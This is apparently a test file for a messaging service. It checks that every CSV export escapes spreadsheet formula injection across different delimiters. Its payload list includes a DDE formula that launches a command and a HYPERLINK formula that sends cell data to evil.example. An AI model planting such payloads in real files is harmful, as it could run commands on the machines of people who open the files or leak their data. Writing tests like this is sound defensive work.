import { strict as assert } from 'node:assert'
import { parse } from 'csv-parse/sync'
import { openAccount } from '../../src/accounts/open-account.ts'
import { reserveCredits } from '../../src/credits/reservations.ts'
import { toCell } from '../../src/http/extract.ts'
import { startService, test } from '../service/service.ts'
import { readOperations } from './document.ts'

/** What spreadsheets run, in the ways that are known to get past a careless export. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Cliquez")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  'rien;=1+1',
  'rien;@SUM(A1);',
  'rien\t=1+1',
  'rien\n=1+1',
  'rien\r\n-2+3',
  '";=1+1;"',
  '=1+1";=2+2'
]
const RUNS = /^[\t\r\n]*[=+\-@＝＋－＠]/
const PLAIN_NUMBER = /^[+-]?\d+$/

/** Every cell as some spreadsheet would see it, whichever separator it takes for its own. */
function cellsSeen(csv: string): string[] {
  return [',', ';', '\t'].flatMap((delimiter) => {
    const rows = parse(csv, {
      delimiter,
      relaxQuotes: true,
      relaxColumnCount: true,
      recordDelimiter: ['\r\n', '\n', '\r']
    })
    return (rows as string[][]).flat()
  })
}

test('no cell of any CSV extract begins as a formula, however a spreadsheet splits it', async (t) => {
  const { operator, newAccount, pool, url } = await startService(t)
  const account = await newAccount({ credits: 1_000 })
  const list = (await account.expect(200).post('/contactlists', { name: 'x' })).body.id
  const contacts = FORMULAS.map((text, index) => ({
    tel: `06399801${String(index).padStart(2, '0')}`,
    champ_nom: text,
    champ_perso1: text
  }))
  await account.expect(200).post('/contacts', { contactlist_id: list, contacts })
  const recipients = FORMULAS.map((text, index) => ({ recipient: `06399801${String(index).padStart(2, '0')}`, text }))
  const consents = FORMULAS.map((text, index) => ({
    recipient: `06399801${String(index).padStart(2, '0')}`,
    wording: text,
    proof: text
  }))
  await account.expect(200).post('/consents', { consents })
  const ofOnePerson = FORMULAS.map((purpose) => ({
    recipient: '0639980199',
    purpose,
    wording: purpose,
    proof: purpose
  }))
  await account.expect(200).post('/consents', { consents: ofOnePerson })
  const send = { recipients, content: '#text#', scheduleAt: new Date(Date.now() + 86_400_000).toISOString() }
  const message = (await account.expect(200).post('/messages/sms/dynamic', send)).body.message_id
  const rcs = { contacts: recipients, type: 'text', data: { text: '#text#' }, scheduleAt: send.scheduleAt }
  const rcsMessage = (await account.expect(200).post('/messages/rcs', rcs)).body.message_id
  const formula = FORMULAS.find((text) => text.startsWith('=HYPERLINK')) ?? ''
  await pool`update api_keys set name = ${formula} where account_id = ${account.id}`
  for (const [index, text] of FORMULAS.entries()) {
    const person = { email: `formula${index}@test.example`, passwordHash: 'none', country: 'FR' }
    await openAccount(pool, { parentId: account.id, ...person, socialReason: text })
    await account.put(`/contactlists/${list}`, { name: text })
    await pool`
      insert into replies (account_id, id, phone, written_to, channel, content, is_stop)
      values (${account.id}, ${index + 1}, '+33639980101', ${text}, 'sms', ${text}, false)
    `
  }

  // Errors as a carrier may write them, and messages that have left. A quote after a `;` would leave the parser open.
  const closed = FORMULAS.filter((text) => !/;"?$/.test(text))
  await pool`
    update recipients
    set error_code = (${closed}::text[])[position]
    where account_id = ${account.id}
      and message_id = ${message}
  `
  await pool`
    insert into messages (
      account_id, id, channel, category, state, content, sender, name, scheduled_at, recipients_count, segments_count,
      credits_required, delivered_count, taken_count
    )
    select ${account.id}, nextval('message_ids'), 'sms', 'marketing', 'sent', 'Bonjour', 'CHAPPE', text, now(), 2, 2, 2, 2, 2
    from unnest(${closed}::text[]) as given (text)
  `

  // Senders as nobody could name them: each is a line of the statement, and of the figures of credits.
  const month = new Date().toISOString().slice(0, 7)
  for (const [index, text] of closed.entries()) {
    const reference = `message ${1_000 + index}`
    const use = { sender: text, countries: { FR: 1 } }
    await pool.begin((sql) =>
      reserveCredits(sql, [{ accountId: account.id, messageType: 1, reference, amount: 1, use }])
    )
  }

  const extracts = (await readOperations(url)).filter(({ id }) => id.startsWith('extract'))
  assert.deepEqual(extracts.map(({ id }) => id).toSorted(), [
    'extractAccounts',
    'extractAudit',
    'extractCarrierCosts',
    'extractConsents',
    'extractContacts',
    'extractCreditUses',
    'extractMargins',
    'extractMessageConsents',
    'extractMessageResults',
    'extractMyPrices',
    'extractPeriodResults',
    'extractPersonConsents',
    'extractPriceVersion',
    'extractRcsRecipients',
    'extractReplies',
    'extractSmsRecipients',
    'extractStatement',
    'extractSubAccounts'
  ])
  // Those of prices, costs and margins have no text of this account.
  for (const { path } of extracts.filter(({ path }) => !/price|cost|margin/.test(path))) {
    const client = path === '/accounts/extract' ? operator : account
    const id = path.startsWith('/contactlists') ? list : path.includes('/rcs/') ? rcsMessage : message
    const address = path.replace('{id}', String(id)).replace('{number}', '0639980199').replace('{month}', month)
    const { text, headers } = await client.expect(200).get(address, { accept: 'text/csv' })
    assert.match(headers.get('content-type') ?? '', /^text\/csv/)
    const cells = cellsSeen(text)
    assert.ok(cells.length > 3 * FORMULAS.length, path)
    for (const cell of cells) assert.ok(!RUNS.test(cell) || PLAIN_NUMBER.test(cell), `${path}: ${JSON.stringify(cell)}`)
    // A spreadsheet that takes the comma shows the words as they were, with one mark before what it would have run.
    const marked = (parse(text, { relaxColumnCount: true }) as string[][]).flat().join('\n')
    assert.ok(marked.includes('\'=HYPERLINK("https://evil.example?x="&A1,"Cliquez")'), path)
  }
})

test('what is no formula stays as it is: numbers, dates, words with signs in them', () => {
  for (const [value, cell] of [
    ['+33639980001', '+33639980001'],
    [-5, '-5'],
    ['2026-11-15T09:30:00.000Z', '2026-11-15T09:30:00.000Z'],
    ['a=b', 'a=b'],
    ['à 10 % - tout', 'à 10 % - tout'],
    ['un; deux', '"un; deux"'],
    ['dit "oui"', '"dit ""oui"""'],
    ['un\r\ndeux', '"un\r\ndeux"'],
    [null, ''],
    [true, 'true']
  ] as const) {
    assert.equal(toCell(value), cell)
  }
})
